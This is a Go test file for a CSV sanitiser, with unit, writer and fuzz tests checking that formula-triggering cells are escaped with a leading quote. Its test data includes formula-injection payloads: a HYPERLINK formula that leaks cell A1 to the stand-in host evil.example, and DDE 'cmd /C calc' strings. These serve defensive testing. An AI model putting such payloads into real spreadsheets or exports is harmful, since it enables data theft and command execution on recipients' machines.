package csvsafe

import (
	"bytes"
	"encoding/csv"
	"errors"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestCell(t *testing.T) {
	t.Parallel()

	scenarios := []struct {
		in, expected string
	}{
		{"", ""},
		{"Anna", "Anna"},
		{"anna.smith_88", "anna.smith_88"},
		{"=1+1", "'=1+1"},
		{`=HYPERLINK("http://evil.example?x="&A1,"Click")`, `'=HYPERLINK("http://evil.example?x="&A1,"Click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1,1)", "'@SUM(1,1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"＝1+1", "'＝1+1"},
		{"  =1+1", "'  =1+1"},
		{"\n@x", "'\n@x"},
		{"-", "'-"},
		{"--", "'--"},
		{"- bullet point", "'- bullet point"},
		{"-12", "-12"},
		{"+49", "+49"},
		{"-3.25", "-3.25"},
		{"-3,25", "-3,25"},
		{" -7", " -7"},
		{"-1e5", "'-1e5"},
		{"a=1", "a=1"},
		{"'already quoted", "'already quoted"},
		{"emoji 🎉 =", "emoji 🎉 ="},
	}
	for _, s := range scenarios {
		if got := Cell(s.in); got != s.expected {
			t.Errorf("Cell(%q) = %q, expected %q", s.in, got, s.expected)
		}
	}
}

func TestWriter(t *testing.T) {
	t.Parallel()

	scenarios := []struct {
		name     string
		opts     Options
		records  [][]string
		expected string
	}{
		{
			"defaults",
			Options{},
			[][]string{{"name", "ig"}, {"=cmd", "anna"}, {`say "hi", ok`, "-5"}},
			"name,ig\n'=cmd,anna\n\"say \"\"hi\"\", ok\",-5\n",
		},
		{
			"excel-friendly",
			Options{Comma: ';', UseCRLF: true, BOM: true},
			[][]string{{"Zoë", "+1;2"}, {"@x", "1,5"}},
			"\uFEFFZoë;\"'+1;2\"\r\n'@x;1,5\r\n",
		},
		{
			"newline inside a formula cell stays quoted",
			Options{},
			[][]string{{"=1\n=2", "x"}},
			"\"'=1\n=2\",x\n",
		},
	}
	for _, s := range scenarios {
		t.Run(s.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := NewWriter(&buf, s.opts)
			for _, r := range s.records {
				before := slices.Clone(r)
				if err := w.Write(r); err != nil {
					t.Fatal(err)
				}
				if !slices.Equal(before, r) {
					t.Fatalf("Write modified the caller's record: %q", r)
				}
			}
			w.Flush()
			if err := w.Error(); err != nil {
				t.Fatal(err)
			}
			if buf.String() != s.expected {
				t.Fatalf("expected\n%q\ngot\n%q", s.expected, buf.String())
			}
		})
	}
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterReportsErrors(t *testing.T) {
	t.Parallel()

	w := NewWriter(failingWriter{}, Options{BOM: true})
	if err := w.Write([]string{"a"}); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("expected the BOM write error, got %v", err)
	}

	w = NewWriter(failingWriter{}, Options{})
	_ = w.Write([]string{"a"})
	w.Flush()
	if err := w.Error(); err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Fatalf("expected the flush error, got %v", err)
	}
}

func FuzzCell(f *testing.F) {
	for _, seed := range []string{"", "=1", "+1", "-1", "-1+1", "@a", "\t", "\r\n=", "  -x", "＠", "'=", "a,b\"c"} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := Cell(s)
		if got != s && got != "'"+s {
			t.Fatalf("Cell(%q) = %q: only a leading quote may be added", s, got)
		}
		// Nothing that reaches a spreadsheet may start, even after
		// trimmed spaces and line feeds, with a trigger unless it is a
		// plain number.
		for _, candidate := range []string{got, strings.TrimLeft(got, " \n")} {
			r, _ := utf8.DecodeRuneInString(candidate)
			if candidate != "" && strings.ContainsRune(triggers, r) && !plainNumber(candidate) {
				t.Fatalf("Cell(%q) = %q still starts with %q", s, got, r)
			}
		}
		if Cell(got) != got {
			t.Fatalf("Cell is not idempotent on %q", s)
		}

		// Through the Writer and back, the cell survives intact (csv
		// folds \r\n inside quoted fields to \n).
		var buf bytes.Buffer
		w := NewWriter(&buf, Options{})
		if err := w.Write([]string{s, "end"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if err := w.Error(); err != nil {
			t.Fatal(err)
		}
		rec, err := csv.NewReader(&buf).Read()
		if err != nil {
			t.Fatalf("reading back %q: %v", buf.String(), err)
		}
		want := strings.ReplaceAll(got, "\r\n", "\n")
		if len(rec) != 2 || rec[0] != want || rec[1] != "end" {
			t.Fatalf("round trip of %q gave %q, expected [%q end]", s, rec, want)
		}
	})
}
